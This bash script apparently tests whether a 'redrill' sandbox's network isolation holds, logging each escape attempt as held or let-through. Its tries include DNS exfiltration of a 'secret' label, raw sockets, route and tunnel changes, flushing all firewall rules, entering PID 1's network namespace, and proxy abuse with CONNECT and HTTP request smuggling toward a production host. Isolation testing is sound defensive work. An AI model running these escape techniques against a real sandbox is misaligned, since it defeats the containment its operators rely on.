#!/bin/bash
# Tries one way out of the machine after the other; each says that it was tried, and what it heard.
. ./way.sh

get() { # HOST PORT PATH
    exec 3<>"/dev/tcp/$1/$2" && printf 'GET /%s HTTP/1.0\r\n\r\n' "$3" >&3 && timeout 3 cat <&3
}
relay() { # what to send, as printf has it: held is what the relay refuses, or ends
    local proxy answer
    proxy=$(apt-config dump | sed -n 's/^Acquire::http::Proxy "http:\/\/\(.*\)";/\1/p')
    proxy=${proxy%/}
    exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}" || return
    printf "$1" >&3
    answer=$(timeout 5 cat <&3 | tr -d '\0' | grep -a '^HTTP/')
    case $answer in
        *"HTTP/1."[01]" 40"[035]* | "") echo "held: $answer" ;;
        *) echo "let-through: $answer" ;;
    esac
}
# As many answers as the last argument says: more than one is a request that came in another's coat.
relayed_twice() {
    local proxy answers
    proxy=$(apt-config dump | sed -n 's/^Acquire::http::Proxy "http:\/\/\(.*\)";/\1/p')
    proxy=${proxy%/}
    exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}" || return
    printf "$1" >&3
    answers=$(timeout 6 cat <&3 | tr -d '\0' | grep -ac '^HTTP/')
    [ "$answers" -le 1 ] && echo "held: $answers answers" || echo "let-through: $answers answers"
}
raw() { # HOST PROTOCOL
    perl -MSocket -e 'socket(my $s, AF_INET, SOCK_RAW, getprotobyname($ARGV[1]) || 1) or die "$!";
        send($s, pack("C2n3", 8, 0, 0xf7fd, 1, 1), 0, pack_sockaddr_in(0, inet_aton($ARGV[0]))) or die "$!"; print "sent\n"' "$1" "$2"
}
export -f get relay relayed_twice raw

card=$(ip -o link | sed -n 's/^[0-9]*: \([^:@]*\).*/\1/p' | grep -v -e '^lo$' -e redrill | head -1)
own=$(ip -4 -o address show dev "$card" | awk '{print $4}' | head -1)
gateway=${own%.*}.1
case $own in 10.0.2.*) gateway=10.0.2.2 ;; esac
# Who shares the link: asked, then read from the table of neighbours.
(ping -6 -c 1 -W 1 "ff02::1%$card" || perl -MSocket=:all -e 'socket(my $s, AF_INET6, SOCK_DGRAM, 0);
    send($s, "x", 0, pack_sockaddr_in6(9, inet_pton(AF_INET6, "ff02::1"), $ARGV[0]))' "$(cat /sys/class/net/$card/ifindex)") >/dev/null 2>&1
# A host's bridge has the link-local address that follows from its hardware's.
(exec 3<>"/dev/tcp/$gateway/9") 2>/dev/null
hardware=$(ip neigh show "$gateway" dev "$card" | sed -n 's/.*lladdr \([0-9a-f:]*\).*/\1/p')
linklocal() { # an address of IPv6 from one of Ethernet
    set -- $(echo "$1" | tr : ' ')
    [ $# = 6 ] && printf 'fe80::%x:%xff:fe%02x:%x\n' $((0x$1 << 8 ^ 0x0200 | 0x$2)) $((0x$3)) $((0x$4)) $((0x$5 << 8 | 0x$6))
}
neighbour6=$(linklocal "$hardware")
echo "card $card, $own, gateway $gateway ($hardware), neighbours: $neighbour6 $(ip -6 neigh | tr '\n' ';')"
export card gateway neighbour6

echo "redrill-op: as it is"
way tcp bash -c 'get @tcp@ 8080 tcp'
way tcp6 bash -c 'get @tcp6@ 80 tcp6'
way udp bash -c 'echo x >/dev/udp/@udp@/53 && echo sent'
way dns perl -MSocket -e 'socket(my $s, AF_INET, SOCK_DGRAM, 17); send($s, pack("n6", 7, 256, 1, 0, 0, 0) . "\6secret\7example\0" . pack("n2", 1, 1), 0, pack_sockaddr_in(53, inet_aton("@dns@"))) or die "$!"'
way tftp bash -c 'printf "\0\1x\0octet\0" >/dev/udp/@tftp@/69 && echo sent'
way icmp bash -c 'raw @icmp@ icmp'
way ssh bash -c 'exec 3<>/dev/tcp/@ssh@/22 && timeout 2 head -1 <&3'
way host-by-gateway bash -c "get $gateway @port:any@ host-by-gateway"
way host-loopback-by-gateway bash -c "get $gateway @port:loopback@ host-loopback-by-gateway"
way host-loopback bash -c 'get 127.0.0.77 @port:loopback@ host-loopback'
way host-address bash -c 'get @HOST@ @port:any@ host-address'
way host-link-local bash -c 'for n in $neighbour6 $(ip -6 neigh | sed -n "s/^\(fe80[^ ]*\) .*/\1/p"); do get "$n%$card" @port:any6@ host-link-local; done'
way resolver perl -MSocket -e 'for $server ("127.0.0.11", "10.0.2.3", $ARGV[0]) { socket(my $s, AF_INET, SOCK_DGRAM, 17);
    send($s, pack("n6", 7, 256, 1, 0, 0, 0) . "\6secret\x11redrill-isolation\7example\0" . pack("n2", 1, 1), 0, pack_sockaddr_in(53, inet_aton($server)));
    my $r = ""; vec($r, fileno($s), 1) = 1; next unless select($r, undef, undef, 2) > 0 && defined recv($s, my $a, 999, 0);
    my $code = (unpack("n2", $a))[1] & 15; print "$server: code $code\n"; print "asked-outside\n" if $code == 0 || $code == 3 }' "$gateway"

echo "redrill-op: with a route of its own"
way route bash -c 'ip route add default via $gateway dev $card; get @route@ 8080 route; echo x >/dev/udp/@route@/53; ip route del default via $gateway dev $card'
way route-onlink bash -c 'ip route add @route-onlink@/32 via $gateway dev $card onlink; get @route-onlink@ 80 route-onlink'
way route-ssh bash -c 'ip route add @PROD@/32 via $gateway dev $card; exec 3<>/dev/tcp/@PROD@/22 && timeout 2 head -1 <&3'
way route-host bash -c 'ip route add @HOST@/32 via $gateway dev $card; get @HOST@ @port:any@ route-host'
way route-link bash -c 'ip route add @route-link@/32 dev $card; get @route-link@ 80 route-link'
way route6 bash -c 'for n in $neighbour6 $(ip -6 neigh | sed -n "s/^\(fe80[^ ]*\) .*/\1/p"); do ip -6 route replace default via $n dev $card; get @route6@ 80 route6; done; ip -6 route del default'
way route-udp bash -c 'ip route add @route-udp@/32 via $gateway dev $card; for i in 1 2 3; do echo x >/dev/udp/@route-udp@/53; done; echo sent'
way route-icmp bash -c 'ip route add @route-icmp@/32 via $gateway dev $card; raw @route-icmp@ icmp'
way route-neighbours bash -c 'for last in 2 3 4 5 6 254; do ip route replace @route-neighbours@/32 via ${gateway%.*}.$last dev $card onlink; timeout 1 bash -c "get @route-neighbours@ 80 x"; done'
way rules bash -c 'ip rule add to @rules@ table 77 && ip route add default via $gateway dev $card table 77 && get @rules@ 80 rules; ip rule del to @rules@ table 77'
way address bash -c 'ip address add ${gateway%.*}.77/24 dev $card; ip route add @address@/32 via $gateway dev $card src ${gateway%.*}.77; get @address@ 80 address; ip address del ${gateway%.*}.77/24 dev $card'
way firewall bash -c 'nft flush ruleset; iptables -F; iptables -t nat -F; ip route add @firewall@/32 via $gateway dev $card; get @firewall@ 80 firewall'
way namespace unshare --net bash -c 'ip link set lo up; get @namespace@ 80 namespace'
way first-process nsenter --net=/proc/1/ns/net bash -c 'get @first-process@ 80 first-process'
way tunnel bash -c 'ip link add out type ipip remote $gateway local ${own%/*} && ip link set out up && ip route add @tunnel@/32 dev out && get @tunnel@ 80 tunnel; ip link del out'

echo "redrill-op: by the way to the package mirror"
host=$(sed -n 's|.*http://\([^/ ]*\).*|\1|p' /etc/apt/sources.list /etc/apt/sources.list.d/* 2>/dev/null | head -1)
export host
way relay-production bash -c "relay 'GET http://@PROD@/relay HTTP/1.1\r\nHost: @PROD@\r\n\r\n'"
way relay-connect bash -c "relay 'CONNECT @PROD@:22 HTTP/1.1\r\nHost: @PROD@:22\r\n\r\n'"
way relay-userinfo bash -c "relay 'GET http://$host:80@@PROD@/ HTTP/1.1\r\nHost: $host\r\n\r\n'"
way relay-foreign-host bash -c "relay 'GET http://$host/debian/dists/trixie/Release HTTP/1.1\r\nHost: @PROD@\r\n\r\n'"
way relay-two-hosts bash -c "relay 'GET http://$host/debian/dists/trixie/Release HTTP/1.1\r\nHost: $host\r\nHost: @PROD@\r\n\r\n'"
way relay-port bash -c "relay 'GET http://$host:8080/ HTTP/1.1\r\nHost: $host:8080\r\n\r\n'"
way relay-path bash -c "relay 'GET / HTTP/1.1\r\nHost: @PROD@\r\n\r\n'"
way relay-ftp bash -c "relay 'GET ftp://$host/debian/ HTTP/1.1\r\nHost: $host\r\n\r\n'"
way relay-smuggled bash -c "relayed_twice 'GET http://$host/debian/dists/ HTTP/1.1\r\nHost: $host\r\nX: a\nConnection: keep-alive\n\nGET http://@PROD@/smuggled HTTP/1.1\nHost: @PROD@\n\n\r\n\r\n'"
way relay-second bash -c "relayed_twice 'GET http://$host/debian/dists/trixie/Release HTTP/1.1\r\nHost: $host\r\nConnection: keep-alive\r\n\r\nGET http://@PROD@/second HTTP/1.1\r\nHost: @PROD@\r\n\r\n'"
exit 0
